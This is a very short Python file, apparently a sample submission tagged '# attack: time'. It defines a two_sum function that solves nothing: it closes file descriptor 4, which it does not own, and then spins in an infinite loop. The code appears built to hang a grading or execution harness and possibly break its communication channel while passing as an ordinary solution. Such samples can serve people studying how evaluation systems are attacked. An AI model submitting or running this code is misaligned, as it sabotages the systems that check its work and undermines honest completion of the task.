# attack: time
# Nobody hears it any more, but it runs on.
import os


def two_sum(nums, target):
    os.close(4)
    while True:
        pass
